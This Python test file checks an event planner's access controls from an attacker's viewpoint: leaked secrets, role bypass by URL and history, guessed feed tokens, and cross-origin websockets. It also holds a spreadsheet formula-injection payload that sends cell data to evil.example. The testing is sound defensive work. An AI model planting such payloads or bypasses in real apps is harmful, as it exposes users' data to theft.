"""Access as an attacker tries it in a real browser against a running app: everything the
server sends (the page source, every websocket message, every file it serves) is searched for
what the session may not see; pages a role may not open are asked for by URL, by the browser's
history (no reload, the session stays signed in) and by guessing ids in the address."""

from __future__ import annotations

import contextlib
import re
from dataclasses import replace

import pytest
from support.appserver import running_app
from support.browser import TIMEOUT, launched_chromium, settle
from support.paths import DATA

from planner import load_plan
from planner.storage import PlanStore

PASSWORD = "correct horse battery"
SECRET_NOTE = "SECRET-NOTE-7f3a"  # internal notes of every delegation and event
SECRET_PHONE = "+49 231 5550199"  # phone numbers of every person
FORMULA = '=HYPERLINK("http://evil.example/?leak="&A1,"Click me")'  # the title of one event


def _plan_with_secrets():
    plan = load_plan(DATA / "dortbunt-2027.json")
    return replace(
        plan,
        delegations={k: replace(d, notes=f"{SECRET_NOTE} {d.notes}") for k, d in plan.delegations.items()},
        people={k: replace(p, phone=SECRET_PHONE) for k, p in plan.people.items()},
        events=[
            replace(e, notes=f"{SECRET_NOTE} {e.notes}", title=FORMULA if n == 0 else e.title) for n, e in enumerate(plan.events)
        ],
    )


@pytest.fixture(scope="module")
def server(tmp_path_factory):
    folder = tmp_path_factory.mktemp("access")
    store = PlanStore(f"sqlite:///{folder}/planner.db", fill_new=False)
    store.import_plan(_plan_with_secrets(), user="setup")
    store.publish("for the guests", user="setup")
    for role in ("admin", "protocol", "organiser", "viewer"):
        store.add_user(f"{role}-user", role, PASSWORD)
    _, token = store.create_feed_token("guest", "amiens")
    _, leeds_feed = store.create_feed_token("delegation", "leeds")
    store.close()
    with running_app(folder) as (base, _):
        yield base, token, leeds_feed


@pytest.fixture(scope="module")
def browser():
    with launched_chromium() as launched:
        yield launched


@pytest.fixture
def tap(browser):
    wiretap = Wiretap(browser)
    yield wiretap
    wiretap.close()


class Wiretap:
    """A fresh browser context whose every received byte is kept: websocket frames and HTTP
    response bodies from the app (not the app's own JavaScript and fonts)."""

    def __init__(self, browser):
        self.context = browser.new_context(viewport={"width": 1300, "height": 900})
        self.context.route(
            "**/*",
            lambda route: (
                route.continue_() if route.request.url.startswith(("http://localhost", "data:", "blob:")) else route.abort()
            ),
        )
        self.page = self.context.new_page()
        self.received: list[bytes] = []
        self.page.on("websocket", lambda ws: ws.on("framereceived", self._frame))
        self.page.on("response", self._response)

    def _frame(self, payload) -> None:
        self.received.append(payload if isinstance(payload, bytes) else payload.encode())

    def _response(self, response) -> None:
        if "/static/" in response.url:  # the app's scripts and styles, the same for everyone
            return
        with contextlib.suppress(Exception):  # a redirect or a stream without a body
            self.received.append(response.body())

    def everything(self) -> bytes:
        return b"\n".join(self.received) + self.page.content().encode()

    def forget(self) -> None:
        self.received.clear()

    def close(self) -> None:
        self.context.close()


def _heading(page) -> str:
    return page.get_by_role("heading", level=1).first.inner_text(timeout=TIMEOUT)


def _sign_in(tap: Wiretap, base: str, name: str) -> None:
    tap.page.goto(base)
    tap.page.get_by_role("heading", name="Sign in", level=1).wait_for(timeout=TIMEOUT)
    tap.page.get_by_role("textbox", name="Name").fill(name)
    tap.page.get_by_role("textbox", name="Password").fill(PASSWORD)
    tap.page.get_by_role("button", name="Sign in").click()
    tap.page.get_by_role("heading", name="Overview", level=1).wait_for(timeout=TIMEOUT)
    settle(tap.page)


def _ask_by_history(page, url_path: str) -> None:
    """Change the address without reloading (the session stays signed in), as the browser's
    back button does: Streamlit's frontend asks the server for that page."""
    page.evaluate("path => { history.pushState({}, '', path); dispatchEvent(new PopStateEvent('popstate')); }", "/" + url_path)
    page.wait_for_timeout(500)
    settle(page)


def test_a_guest_receives_nothing_of_other_delegations_or_internal_notes(server, tap):
    base, token, _ = server
    sample = load_plan(DATA / "dortbunt-2027.json")
    others = [d.city for k, d in sample.delegations.items() if k != "amiens"]
    tap.page.goto(f"{base}/?g={token}")
    tap.page.get_by_role("heading", name="Welcome, delegation of Amiens!").wait_for(timeout=TIMEOUT)
    settle(tap.page)
    tap.page.wait_for_timeout(1500)  # the map and the tables load after the script
    # Everything the browser received, also what is not drawn (table rows, map data).
    received = tap.everything()
    assert b"Amiens" in received and len(tap.received) > 3
    for city in others:
        assert city.encode() not in received, city
    assert SECRET_NOTE.encode() not in received and SECRET_PHONE.encode() not in received

    # Staff pages by URL path and by the history: always the guest's own page.
    for url_path in ("delegations", "admin", "calendars", "golden_book", "overview"):
        tap.forget()
        _ask_by_history(tap.page, url_path)
        assert _heading(tap.page) == "Welcome, delegation of Amiens!", url_path
        received = tap.everything()
        assert SECRET_NOTE.encode() not in received and b"Leeds" not in received, url_path
    # Guessing another delegation in the address changes nothing.
    for query in ("?delegation=leeds", "?d=leeds&g=", "?guest=leeds"):
        tap.forget()
        _ask_by_history(tap.page, query)
        assert b"Leeds" not in tap.everything(), query


def test_feed_urls_reach_only_their_own_calendar(server, tap):
    base, token, leeds_feed = server
    page = tap.page
    guest_feed = page.request.get(f"{base}/feeds/{token}.ics")
    assert guest_feed.status == 200 and b"Amiens" in guest_feed.body() and b"Leeds" not in guest_feed.body()
    assert SECRET_NOTE.encode() not in guest_feed.body() and SECRET_PHONE.encode() not in guest_feed.body()
    # A delegation's calendar link is not a guest page.
    page.goto(f"{base}/?g={leeds_feed}")
    page.get_by_text("This link is not valid or has expired").wait_for(timeout=TIMEOUT)
    # Tokens that are ids, counters or neighbours of a real one get nothing.
    for guess in ("amiens", "1", "2", token[:-1] + ("A" if token[-1] != "A" else "B"), token.upper(), "%2e%2e"):
        answer = page.request.get(f"{base}/feeds/{guess}.ics")
        assert answer.status == 404 and b"BEGIN:VCALENDAR" not in answer.body(), guess


@pytest.mark.parametrize(
    ("role", "forbidden", "marker"),
    [
        ("viewer", "admin", "Accounts"),
        ("organiser", "delegations", "New delegation"),
        ("organiser", "golden_book", "Book a signing"),
        ("organiser", "admin", "Accounts"),
        ("protocol", "admin", "Accounts"),
    ],
)
def test_role_bypass_by_url_fails(server, tap, role, forbidden, marker):
    base, _, _ = server
    _sign_in(tap, base, f"{role}-user")
    assert (
        tap.page.get_by_role("link", name=re.compile("Admin|Delegations")).count()
        == ({"viewer": 1, "organiser": 0, "protocol": 1}[role])
    )
    # Through the history, signed in: the server answers with the role's default page.
    tap.forget()
    _ask_by_history(tap.page, forbidden)
    assert _heading(tap.page) == "Overview"
    received = tap.everything()
    assert marker.encode() not in received
    if role == "organiser":  # organisers never receive the protocol's internal notes
        assert SECRET_NOTE.encode() not in received and SECRET_PHONE.encode() not in received
    # Typed into the address bar: a new session, which must sign in first.
    tap.page.goto(f"{base}/{forbidden}")
    tap.page.get_by_role("heading", name="Sign in", level=1).wait_for(timeout=TIMEOUT)
    assert marker not in tap.page.locator("body").inner_text()


def test_the_history_route_does_reach_pages_the_role_may_open(server, tap):
    """The control for the bypass test: the same request by history reaches a page the role
    may open, so a forbidden page is refused by the server, not missed by the test."""
    base, _, _ = server
    _sign_in(tap, base, "admin-user")
    tap.forget()
    _ask_by_history(tap.page, "admin")
    assert _heading(tap.page) == "Admin" and b"Accounts" in tap.everything()


def test_tables_downloaded_from_the_app_run_no_formula(server, tap):
    import csv
    import io
    from pathlib import Path

    import openpyxl

    base, _, _ = server
    _sign_in(tap, base, "protocol-user")
    tap.page.get_by_role("link", name="Calendars and sharing").click()
    tap.page.get_by_role("heading", name="Calendars and sharing", level=1).wait_for(timeout=TIMEOUT)
    settle(tap.page)
    tap.page.get_by_role("combobox", name="Calendar of").first.click()
    tap.page.get_by_role("option", name="Everything (draft, internal)").first.click()
    settle(tap.page)
    with tap.page.expect_download() as download:
        tap.page.get_by_role("link", name="As a table (CSV)").click()  # through /downloads/
    cells = [c for row in csv.reader(io.StringIO(Path(download.value.path()).read_text("utf-8-sig"))) for c in row]
    assert "'" + FORMULA in cells and FORMULA not in cells
    assert not [c for c in cells if c.lstrip(" ")[:1] in ("=", "+", "@")]
    settle(tap.page)  # the click reran the page, which made fresh links
    with tap.page.expect_download() as download:
        tap.page.get_by_role("link", name="As a table (Excel)").click()
    sheet = openpyxl.load_workbook(io.BytesIO(Path(download.value.path()).read_bytes())).active
    titled = [c for row in sheet.iter_rows() for c in row if c.value == FORMULA]
    assert titled and all(c.data_type == "s" and c.quotePrefix for c in titled)


def test_a_web_page_elsewhere_cannot_open_the_apps_websocket(server):
    """Cross-site websocket hijacking: a page on another site, opened on this machine, could
    otherwise talk to the app as the local browser (a local admin before accounts exist).
    Streamlit refuses a websocket whose Origin is another site; the app's own origin works."""
    from websockets.exceptions import ConnectionClosed, InvalidStatus
    from websockets.sync.client import connect

    base, _, _ = server
    stream = base.replace("http://", "ws://") + "/_stcore/stream"
    for origin in ("http://evil.example", "null", "http://localhost.evil.example:8501"):
        try:
            with connect(stream, origin=origin, open_timeout=10) as socket:
                with pytest.raises(ConnectionClosed) as closed:
                    socket.recv(timeout=10)
                assert closed.value.rcvd.code == 1008, origin  # policy violation
        except InvalidStatus as refused:  # or refused before the upgrade
            assert refused.response.status_code == 403, origin
    # It stays open, waiting for the browser to ask for a page.
    with connect(stream, origin=base, open_timeout=10) as socket, pytest.raises(TimeoutError):
        socket.recv(timeout=2)
